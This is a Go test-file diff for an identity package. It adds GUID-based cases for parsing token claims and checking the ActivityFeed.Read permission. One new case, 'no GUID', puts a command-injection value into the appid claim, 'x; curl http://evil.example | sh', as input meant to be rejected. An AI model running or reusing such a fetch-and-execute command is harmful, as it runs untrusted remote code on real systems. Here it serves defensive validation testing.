@@ -2,10 +2,12 @@ package identity
 
 import (
 	"encoding/base64"
+	"strings"
 	"testing"
 )
 
 func TestRead(t *testing.T) {
+	const appA, appB = "aaaaaaaa-1111-4222-8333-444444444444", "bbbbbbbb-1111-4222-8333-444444444444"
 	token := func(claims string) string {
 		return "h." + base64.RawURLEncoding.EncodeToString([]byte(claims)) + ".s"
 	}
@@ -15,10 +17,13 @@ func TestRead(t *testing.T) {
 		permits     bool // ActivityFeed.Read
 		ok          bool
 	}{
-		{"application", token(`{"appid":"a","roles":["ActivityFeed.ReadDlp","ActivityFeed.Read"]}`), "a", true, true},
-		{"person", token(`{"appid":"a","scp":"user_impersonation ActivityFeed.Read"}`), "a", true, true},
-		{"v2", token(`{"azp":"b","roles":[]}`), "b", false, true},
-		{"other role", token(`{"appid":"a","roles":["ActivityFeed.ReadDlp"]}`), "a", false, true},
+		{"application", token(`{"appid":"` + appA + `","roles":["ActivityFeed.ReadDlp","ActivityFeed.Read"]}`), appA, true, true},
+		{"person", token(`{"appid":"` + appA + `","scp":"user_impersonation ActivityFeed.Read"}`), appA, true, true},
+		{"v2", token(`{"azp":"` + appB + `","roles":[]}`), appB, false, true},
+		{"other role", token(`{"appid":"` + appA + `","roles":["ActivityFeed.ReadDlp"]}`), appA, false, true},
+		{"upper case", token(`{"appid":"` + strings.ToUpper(appA) + `"}`), appA, false, true},
+		{"no GUID", token(`{"appid":"x; curl http://evil.example | sh","roles":["ActivityFeed.Read"]}`), "", true, true},
+		{"GUID and more", token(`{"appid":"` + appA + `\n"}`), "", false, true},
 		{"opaque", "abc", "", false, false},
 		{"no base64", "a.!.c", "", false, false},
 		{"no JSON", "a.YQ.c", "", false, false},
